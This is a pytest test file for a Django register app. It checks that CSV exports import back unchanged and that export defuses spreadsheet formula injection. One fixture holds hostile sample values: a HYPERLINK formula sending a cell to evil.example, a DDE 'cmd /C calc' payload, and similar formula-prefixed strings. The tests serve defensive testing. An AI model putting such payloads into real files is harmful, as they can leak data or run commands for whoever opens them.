"""`export_csv` writes exactly the columns `import_csv` reads: an export imports back unchanged."""

from __future__ import annotations

import csv
import datetime as dt
import io

import pytest
from django.utils import timezone

from ombuds.core.dates import add_months
from ombuds.demo import register_data as demo_data
from ombuds.register import services
from ombuds.register.csv import KINDS, export_csv, import_csv
from ombuds.register.models import (
    Agency,
    Credential,
    CredentialProgram,
    Membership,
    MembershipType,
    Person,
    StatusEvent,
)

pytestmark = pytest.mark.django_db

ORDER = ("people", "agencies", "memberships", "credentials")
NEXT_YEAR = timezone.localdate() + dt.timedelta(days=365)


def rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def reimport(organization) -> dict[str, tuple[int, int, int]]:
    counts = {}
    for kind in ORDER:
        report = import_csv(
            organization=organization,
            data=export_csv(organization=organization, kind=kind).encode(),
            dry_run=False,
        )
        assert report.ok, (kind, report.errors)
        assert report.kind == kind
        counts[kind] = (report.created, report.updated, report.unchanged)
    return counts


@pytest.fixture
def varied_register(body):
    """A register with what a CSV finds hard: records without external ids, separators and quotes
    inside values, line breaks, every kind of holder, and histories made through the lifecycle."""
    program = CredentialProgram.objects.create(
        organization=body, code="cpx", name="Certified Practitioner of Examples", abbreviation="CPX"
    )
    individual = MembershipType.objects.create(
        organization=body, code="individual", name="Individual member", kind="individual"
    )
    agency_type = MembershipType.objects.create(
        organization=body, code="agency", name="Member agency", kind="organization"
    )
    ines = Person.objects.create(
        organization=body, external_id="P-1", given_name="Ines", family_name='O"Hara, Jr.'
    )
    walk_in = Person.objects.create(organization=body, given_name="Tomas", family_name="Quell")
    Agency.objects.create(
        organization=body,
        external_id="A-1",
        legal_name="Harrow; Vale Partners",
        trade_names=["Harrow; Vale", "[HV]"],
        registration_numbers=[{"authority": "Board: East", "number": "E:7"}],
    )
    plain = Agency.objects.create(
        organization=body,
        legal_name="Plainfield Tracing",
        trade_names=["Plainfield", "PT Recovery"],
        registration_numbers=[{"authority": "State of Utah", "number": "UT-3"}],
        website="https://plainfield.example.org",
    )
    Membership.objects.create(
        organization=body,
        membership_type=individual,
        person=walk_in,
        external_id="M-1",
        number="GOE-1",
        status="applicant",
    )
    membership = Membership.objects.create(
        organization=body,
        membership_type=agency_type,
        agency=plain,
        number="GOE-2",
        status="active",
        start_date=dt.date(2019, 3, 1),
        renewal_date=dt.date(2027, 3, 1),
    )
    services.membership_transition(
        membership=membership,
        to_status="suspended",
        effective_date=timezone.localdate(),
        reason="Sanction",
        decision_ref="EC-1",
        until=NEXT_YEAR,
    )
    issued = services.credential_issue(holder=ines, program=program, number="cpx 100")
    services.credential_transition(
        credential=issued,
        to_status="active",
        effective_date=timezone.localdate(),
        reason="Passed",
    )
    Credential.objects.filter(pk=issued.pk).update(
        conditions='Supervised, "closely"\nuntil the review'
    )
    services.credential_issue(
        holder=walk_in, program=program, number="CPX-101", external_id="C-101"
    )
    return body


def test_the_export_header_is_exactly_the_columns_import_reads(varied_register):
    for kind in ORDER:
        header = export_csv(organization=varied_register, kind=kind).splitlines()[0]
        assert header.split(",") == [c.name for c in KINDS[kind]]


def test_an_export_imports_back_unchanged_row_for_row(varied_register):
    events = StatusEvent.objects.count()
    exports = {kind: export_csv(organization=varied_register, kind=kind) for kind in ORDER}
    assert reimport(varied_register) == {
        "people": (0, 0, 2),
        "agencies": (0, 0, 2),
        "memberships": (0, 0, 2),
        "credentials": (0, 0, 2),
    }
    assert StatusEvent.objects.count() == events
    assert {kind: export_csv(organization=varied_register, kind=kind) for kind in ORDER} == exports


def test_records_without_an_external_id_are_exported_with_their_ombuds_id(varied_register):
    walk_in = Person.objects.get(family_name="Quell")
    people = rows(export_csv(organization=varied_register, kind="people"))
    assert [p["external_id"] for p in people] == ["P-1", f"ombuds:{walk_in.pk}"]
    credentials = rows(export_csv(organization=varied_register, kind="credentials"))
    assert [(c["number"], c["holder"]) for c in credentials] == [
        ("CPX-101", f"ombuds:{walk_in.pk}"),
        ("CPX100", "P-1"),
    ]


def test_list_values_are_plain_when_they_can_be_and_json_when_they_must(varied_register):
    agencies = {
        a["legal_name"]: a for a in rows(export_csv(organization=varied_register, kind="agencies"))
    }
    plain = agencies["Plainfield Tracing"]
    assert (plain["trade_names"], plain["registration_numbers"]) == (
        "Plainfield; PT Recovery",
        "State of Utah: UT-3",
    )
    tricky = agencies["Harrow; Vale Partners"]
    assert tricky["trade_names"] == '["Harrow; Vale", "[HV]"]'
    assert tricky["registration_numbers"] == '[{"authority": "Board: East", "number": "E:7"}]'


def test_statuses_dates_and_conditions_are_written_as_import_reads_them(varied_register):
    credentials = {
        c["number"]: c for c in rows(export_csv(organization=varied_register, kind="credentials"))
    }
    active = credentials["CPX100"]
    assert (active["status"], active["issued_on"], active["expires_on"]) == (
        "active",
        timezone.localdate().isoformat(),
        add_months(timezone.localdate(), 36).isoformat(),
    )
    assert active["conditions"] == 'Supervised, "closely"\nuntil the review'
    assert active["decision_ref"] == ""
    memberships = {
        m["number"]: m for m in rows(export_csv(organization=varied_register, kind="memberships"))
    }
    assert memberships["GOE-2"]["status"] == "suspended"
    assert memberships["GOE-2"]["suspended_until"] == NEXT_YEAR.isoformat()
    assert memberships["GOE-2"]["person"] == ""


def test_the_demo_register_round_trips_and_moves_to_another_body(body, other_body):
    demo_data.load_espcc(body, holders=40)
    demo_data.load_csec(body, agencies=6)
    exports = {kind: export_csv(organization=body, kind=kind) for kind in ORDER}
    assert all(counts[:2] == (0, 0) for counts in reimport(body).values())

    CredentialProgram.objects.create(
        organization=other_body, code="cesp", name="CESP", abbreviation="CESP"
    )
    for code, kind in (("agency", "organization"), ("board", "board")):
        MembershipType.objects.create(organization=other_body, code=code, name=code, kind=kind)
    for kind in ORDER:
        report = import_csv(organization=other_body, data=exports[kind].encode(), dry_run=False)
        assert report.ok, (kind, report.errors[:3])
        assert report.created == len(rows(exports[kind]))
    assert {kind: export_csv(organization=other_body, kind=kind) for kind in ORDER} == exports


@pytest.fixture
def formula_register(body):
    """Values a spreadsheet would take for formulas: starting with =, +, -, @, a tab or a carriage
    return, and a value that starts with the quote that protects them."""
    program = CredentialProgram.objects.create(
        organization=body, code="cpx", name="Certified Practitioner of Examples", abbreviation="CPX"
    )
    MembershipType.objects.create(
        organization=body, code="agency", name="Member agency", kind="organization"
    )
    person = Person.objects.create(
        organization=body,
        external_id="-42",
        given_name='=HYPERLINK("https://evil.example/?"&A1,"Click")',
        family_name="-",
        phone="+1 555 0100",
        city="@SUM(1+1)",
        region="'=quoted",
    )
    agency = Agency.objects.create(
        organization=body,
        external_id="A-1",
        legal_name="+Plus Partners",
        trade_names=["=cmd|' /C calc'!A0", "@Recovery"],
        registration_numbers=[{"authority": "", "number": "-7"}],
        address="\rReturn Street",
        phone="-",
    )
    Membership.objects.create(
        organization=body,
        membership_type=MembershipType.objects.get(code="agency"),
        agency=agency,
        external_id="+M1",
        number="GOE-1",
        status="applicant",
    )
    Credential.objects.create(
        program=program,
        holder=person,
        number="CPX-1",
        external_id="C-1",
        status="active",
        issued_on=dt.date(2025, 1, 1),
        expires_on=NEXT_YEAR,
        conditions="-- reviewed monthly\n=no formulas here",
    )
    return body


def test_values_a_spreadsheet_would_run_as_formulas_are_exported_as_text(formula_register):
    exports = {kind: export_csv(organization=formula_register, kind=kind) for kind in ORDER}
    person = rows(exports["people"])[0]
    assert person == {
        "external_id": "'-42",
        "given_name": '\'=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "family_name": "'-",
        "email": "",
        "phone": "'+1 555 0100",
        "city": "'@SUM(1+1)",
        "region": "''=quoted",  # one more quote: import removes one
        "country": "",
    }
    agency = rows(exports["agencies"])[0]
    assert (agency["legal_name"], agency["trade_names"], agency["registration_numbers"]) == (
        "'+Plus Partners",
        "'=cmd|' /C calc'!A0; @Recovery",
        "'-7",
    )
    assert (agency["address"], agency["phone"]) == ("'\rReturn Street", "'-")
    membership = rows(exports["memberships"])[0]
    assert (membership["external_id"], membership["agency"]) == ("'+M1", "A-1")
    credential = rows(exports["credentials"])[0]
    assert (credential["holder"], credential["conditions"]) == (
        "'-42",
        "'-- reviewed monthly\n=no formulas here",  # only the start of a cell counts
    )
    for kind in ORDER:
        for row in rows(exports[kind]):
            assert not any(value[:1] in ("=", "+", "-", "@", "\t", "\r") for value in row.values())


def test_an_export_with_formula_characters_imports_back_unchanged(formula_register, other_body):
    exports = {kind: export_csv(organization=formula_register, kind=kind) for kind in ORDER}
    assert reimport(formula_register) == {
        "people": (0, 0, 1),
        "agencies": (0, 0, 1),
        "memberships": (0, 0, 1),
        "credentials": (0, 0, 1),
    }
    assert Person.objects.get(external_id="-42").region == "'=quoted"
    # Into another body, as new records: the values arrive as they were.
    CredentialProgram.objects.create(
        organization=other_body, code="cpx", name="CPX", abbreviation="CPX"
    )
    MembershipType.objects.create(
        organization=other_body, code="agency", name="Member agency", kind="organization"
    )
    for kind in ORDER:
        report = import_csv(organization=other_body, data=exports[kind].encode(), dry_run=False)
        assert (report.ok, report.created) == (True, 1), (kind, report.errors)
    assert {kind: export_csv(organization=other_body, kind=kind) for kind in ORDER} == exports
    copy = Person.objects.get(organization=other_body)
    assert (copy.given_name, copy.family_name, copy.phone, copy.region) == (
        '=HYPERLINK("https://evil.example/?"&A1,"Click")',
        "-",
        "+1 555 0100",
        "'=quoted",
    )
    assert Agency.objects.get(organization=other_body).trade_names == [
        "=cmd|' /C calc'!A0",
        "@Recovery",
    ]


def test_an_unknown_kind_is_refused(body):
    with pytest.raises(ValueError, match="unknown kind 'sanctions'"):
        export_csv(organization=body, kind="sanctions")
